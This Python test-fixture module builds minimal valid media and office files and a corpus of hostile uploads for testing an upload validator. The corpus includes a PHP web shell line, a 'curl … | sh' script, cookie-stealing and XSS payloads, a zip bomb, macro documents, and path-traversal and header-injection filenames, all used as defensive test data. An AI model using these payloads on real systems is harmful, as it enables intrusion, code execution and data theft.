"""A corpus of hostile uploads, built in code (no binary fixtures), plus builders for small REAL files.

`hostile_corpus(limit_bytes)` returns files that must each be refused by content (`expect="refuse"`), or
whose only trick is their name (`expect="name"`: the content is benign, the name must be neutralised by
`safe_download_name`), or that are one byte over the upload limit (`expect="size"`).
`HostileFile.write(directory)` stores one under a generated name: a hostile name never becomes a path.
"""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Literal

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class HostileFile:
    name: str  # the filename as a client would send it
    data: bytes
    why: str
    expect: Literal["refuse", "name", "size"]
    label: str | None = None  # for "refuse": a fragment the Dutch reason must contain (what it was recognised as)
    kind: str | None = None  # for "name": the kind its benign content is recognised as

    def write(self, directory: Path, index: int = 0) -> Path:
        path = directory / f"hostile-{index:03d}.bin"
        path.write_bytes(self.data)
        return path


# --- real, minimal files ---------------------------------------------------------------------------------


def make_pdf(text: str = "Verslag praktijkopdracht") -> bytes:
    """A minimal but valid PDF 1.4 with one page of text and a correct xref table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def make_png(width: int = 2, height: int = 2) -> bytes:
    """A valid RGB PNG."""
    rows = b"".join(b"\x00" + bytes([200, 30, 30]) * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """A valid 1x1 grayscale baseline JPEG: minimal Huffman tables (one code each) and one block."""

    def segment(marker: int, payload: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload

    jfif = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\x00" + bytes([1] * 64)
    sof0 = b"\x08" + struct.pack(">HH", 1, 1) + b"\x01" + b"\x01\x11\x00"
    one_code = bytes([1] + [0] * 15)  # one code of length 1 ("0")
    dht_dc = b"\x00" + one_code + b"\x00"  # DC table 0: symbol 0 (difference 0)
    dht_ac = b"\x10" + one_code + b"\x00"  # AC table 0: symbol 0x00 (end of block)
    sos = b"\x01" + b"\x01\x00" + b"\x00\x3f\x00"
    scan = b"\x3f"  # bits 0 (DC) 0 (EOB), padded with ones
    return (
        b"\xff\xd8"
        + segment(0xE0, jfif)
        + segment(0xDB, dqt)
        + segment(0xC0, sof0)
        + segment(0xC4, dht_dc)
        + segment(0xC4, dht_ac)
        + segment(0xDA, sos)
        + scan
        + b"\xff\xd9"
    )


class _BitWriter:
    def __init__(self) -> None:
        self.value = 0
        self.n = 0

    def put(self, value: int, bits: int) -> None:
        self.value |= (value & ((1 << bits) - 1)) << self.n
        self.n += bits

    def bytes(self) -> bytes:
        return self.value.to_bytes((self.n + 7) // 8, "little")


def make_webp() -> bytes:
    """A valid 1x1 lossless WebP (VP8L): five single-symbol prefix codes, so the pixel takes no bits."""
    w = _BitWriter()
    w.put(0, 14)  # width - 1
    w.put(0, 14)  # height - 1
    w.put(0, 1)  # alpha is not used
    w.put(0, 3)  # version 0
    w.put(0, 1)  # no transform
    w.put(0, 1)  # no color cache
    w.put(0, 1)  # no meta prefix codes
    for symbol in (120, 30, 200, 255):  # green, red, blue, alpha: simple code, one 8-bit symbol
        w.put(1, 1)
        w.put(0, 1)
        w.put(1, 1)
        w.put(symbol, 8)
    w.put(1, 1)  # distance: simple code, one 1-bit symbol 0
    w.put(0, 1)
    w.put(0, 1)
    w.put(0, 1)
    payload = b"\x2f" + w.bytes()
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def make_wav(frames: int = 800) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"".join(struct.pack("<h", (i * 300) % 20000 - 10000) for i in range(frames)))
    return buffer.getvalue()


def make_mp3(frames: int = 4) -> bytes:
    """MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz: 417 bytes each) after an ID3v2.4 tag."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    tag_body = b"TIT2" + struct.pack(">I", 9) + b"\x00\x00" + b"\x03Opname\x00"
    size = len(tag_body)
    syncsafe = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    return b"ID3\x04\x00\x00" + syncsafe + tag_body + frame * frames


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def make_isobmff(major: bytes, *compatible: bytes) -> bytes:
    """An ISO base media file (MP4/MOV/M4A/HEIC family): ftyp, free and an empty mdat box."""
    ftyp = _box(b"ftyp", major + b"\x00\x00\x02\x00" + b"".join(compatible or (major,)))
    return ftyp + _box(b"free", bytes(16)) + _box(b"mdat", bytes(64))


def _ebml_element(element_id: bytes, payload: bytes) -> bytes:
    return element_id + bytes([0x80 | len(payload)]) + payload


def make_ebml(doctype: bytes = b"webm") -> bytes:
    """An EBML header (WebM or Matroska) followed by an empty Segment."""
    header = b"".join(
        (
            _ebml_element(b"\x42\x86", b"\x01"),  # EBMLVersion
            _ebml_element(b"\x42\xf7", b"\x01"),  # EBMLReadVersion
            _ebml_element(b"\x42\xf2", b"\x04"),  # EBMLMaxIDLength
            _ebml_element(b"\x42\xf3", b"\x08"),  # EBMLMaxSizeLength
            _ebml_element(b"\x42\x82", doctype),  # DocType
            _ebml_element(b"\x42\x87", b"\x04"),  # DocTypeVersion
            _ebml_element(b"\x42\x85", b"\x02"),  # DocTypeReadVersion
        )
    )
    return _ebml_element(b"\x1a\x45\xdf\xa3", header) + b"\x18\x53\x80\x67\x80"


_OOXML = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def make_ooxml(kind: str = "docx", *, extra: dict[str, bytes] | None = None, main_type: str | None = None) -> bytes:
    """A DOCX/XLSX/PPTX package: [Content_Types].xml, relationships and the main part (deflated, as Office does)."""
    part, content_type = _OOXML[kind]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main_type or content_type}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="{part}"/></Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><root>Verslag</root>')
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buffer.getvalue()


_ODF_MIMETYPES = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}


def make_odf(
    kind: str = "odt", *, stored: bool = True, mimetype_first: bool = True, extra: dict[str, bytes] | None = None
) -> bytes:
    """An OpenDocument package: `mimetype` first and stored (uncompressed), then content and manifest."""
    buffer = io.BytesIO()
    mimetype = _ODF_MIMETYPES[kind]
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        if not mimetype_first:
            zf.writestr("content.xml", "<office:document-content/>")
        zf.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
        if mimetype_first:
            zf.writestr("content.xml", "<office:document-content/>")
        zf.writestr(
            "META-INF/manifest.xml",
            f'<manifest:manifest><manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            "</manifest:manifest>",
        )
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buffer.getvalue()


def make_text(encoding: str = "utf-8") -> bytes:
    text = "Reflectie op het gesprek met cliënt – “werkfit” traject.\r\nVolgende stap: café-bezoek.\r\n"
    return text.encode(encoding)


# --- hostile content ----------------------------------------------------------------------------------

_HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/'+document.cookie)</script></body></html>"
_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)
_PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + struct.pack("<I", 64) + b"PE\x00\x00\x4c\x01" + bytes(120)
_MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(48)


@lru_cache(maxsize=1)
def _zip_bomb() -> bytes:
    """300 MiB of zeros deflated into a ~300 KiB "docx", written in chunks (never 300 MiB in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w") as f:
            zeros = bytes(1 << 20)
            for _ in range(300):
                f.write(zeros)
    return buffer.getvalue()


def _many_entries(n: int = 2001) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(n):
            zf.writestr(f"xl/p/{i}.xml", "")
    return buffer.getvalue()


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("setup.exe", _PE)
        zf.writestr("leesmij.txt", "Open setup.exe")
    return buffer.getvalue()


def hostile_corpus(limit_bytes: int) -> list[HostileFile]:
    """Every hostile upload we defend against; `limit_bytes` is the upload size limit under test."""
    png = make_png()
    text = make_text()
    files = [
        # --- refused by content ---
        HostileFile("verslag.html", _HTML, "HTML with script", "refuse", "HTML"),
        HostileFile("foto.jpg", _HTML, "HTML named as a photo", "refuse", "HTML"),
        HostileFile(
            "a.pdf.html", b"<html><body onload=alert(1)>PDF</body></html>", "double extension", "refuse", "HTML"
        ),
        HostileFile("notitie.txt", b"Zie bijlage\n<script>alert(1)</script>\n", "script tag in text", "refuse", "HTML"),
        HostileFile("plaatje.svg", _SVG, "SVG with script", "refuse", "SVG"),
        HostileFile("plaatje.png", _SVG, "SVG with script named .png", "refuse", "SVG"),
        HostileFile(
            "logo.png",
            b'<?xml version="1.0"?>\n' + _SVG,
            "SVG with an XML declaration named .png",
            "refuse",
            "SVG",
        ),
        HostileFile(
            "polyglot.gif",
            b"GIF89a/*\x0a\x00\x0a\x00\x00\xff\x00*/=1;alert(document.domain)//;",
            "GIF/JavaScript polyglot",
            "refuse",
            "GIF",
        ),
        HostileFile("verslag.pdf", _ELF, "ELF executable named .pdf", "refuse", "ELF"),
        HostileFile("vakantie.jpg", _PE, "Windows PE/MZ executable named .jpg", "refuse", "Windows"),
        HostileFile("rooster.docx", _MACHO, "Mach-O executable named .docx", "refuse", "Mach-O"),
        HostileFile("verslag.docx", _zip_bomb(), "zip bomb: 300 MiB of zeros", "refuse", "zip-bom"),
        HostileFile("cijfers.xlsx", _many_entries(), "zip with more than 2,000 entries", "refuse", "zip-bom"),
        HostileFile(
            "macro.docx",
            make_ooxml("docx", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
            "DOCX with a VBA project",
            "refuse",
            "Word-document met macro's",
        ),
        HostileFile(
            "macro.xlsx",
            make_ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            "macro-enabled workbook renamed .xlsx",
            "refuse",
            "Excel-werkmap met macro's",
        ),
        HostileFile(
            "macro.odt",
            make_odf("odt", extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
            "ODT with a Basic macro",
            "refuse",
            "OpenDocument-tekst met macro's",
        ),
        HostileFile(
            "nep.odt", make_odf("odt", stored=False), "ODT whose mimetype is compressed", "refuse", "OpenDocument"
        ),
        HostileFile("archief.docx", _plain_zip(), "a plain zip with an executable", "refuse", "ZIP-archief"),
        HostileFile("leeg.pdf", b"", "empty file", "refuse", "leeg"),
        HostileFile("eicar.txt", EICAR, "EICAR antivirus test file", "refuse", "EICAR"),
        HostileFile("eicar.pdf", make_pdf()[:200] + EICAR + make_pdf()[200:], "EICAR inside a PDF", "refuse", "EICAR"),
        HostileFile("data.txt", b'<?xml version="1.0"?>\n<note><to>x</to></note>\n', "XML named .txt", "refuse", "XML"),
        HostileFile(
            "feed.txt",
            b"<note>\n  <to>begeleider</to>\n  <inhoud>zie bijlage</inhoud>\n</note>\n",
            "XML without declaration",
            "refuse",
            "XML",
        ),
        HostileFile(
            "install.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "shell script", "refuse", "script"
        ),
        HostileFile("shell.jpg", b"<?php system($_GET['c']); ?>\n", "PHP web shell named .jpg", "refuse", "PHP"),
        HostileFile(
            "brief.txt", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}", "RTF with object", "refuse", "RTF"
        ),
        HostileFile(
            "oud.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "OLE2 (.doc with macros?)", "refuse", "OLE"
        ),
        HostileFile("film.webm", make_ebml(b"matroska"), "Matroska named .webm", "refuse", "Matroska"),
        HostileFile("foto.heic", make_isobmff(b"avif", b"avif", b"mif1"), "AVIF named .heic", "refuse", "AVIF"),
        HostileFile("ruis.txt", bytes(range(256)) * 16, "binary noise named .txt", "refuse", "herkend als"),
        HostileFile("utf16.txt", "<script>".encode("utf-16"), "UTF-16 HTML (NUL bytes)", "refuse", "HTML"),
        # --- benign content, hostile names ---
        HostileFile("evil.txt\x00.png", png, "NUL byte in the name", "name", kind="png"),
        HostileFile("../../etc/passwd", text, "path traversal", "name", kind="text"),
        HostileFile(
            "..\\..\\windows\\system32\\drivers\\etc\\hosts", text, "Windows path traversal", "name", kind="text"
        ),
        HostileFile(
            "rapport\r\nContent-Type: text/html\r\n\r\n.txt", text, "CRLF header injection", "name", kind="text"
        ),
        HostileFile("x" * 300 + ".png", png, "300-character name", "name", kind="png"),
        HostileFile("\u202egnp.exe", png, "right-to-left override hides .exe", "name", kind="png"),
        HostileFile("foto\u2066\u2069\u200f.exe.png", png, "bidi isolates and marks", "name", kind="png"),
        HostileFile('evil"; filename="x.html', text, "quote injection into Content-Disposition", "name", kind="text"),
        HostileFile(".htaccess", text, "hidden file", "name", kind="text"),
        HostileFile("CON.txt", text, "Windows reserved device name", "name", kind="text"),
        HostileFile("", png, "no name at all", "name", kind="png"),
        # --- size ---
        HostileFile("groot.txt", b"a" * (limit_bytes + 1), "one byte over the upload limit", "size", kind="text"),
    ]
    return files
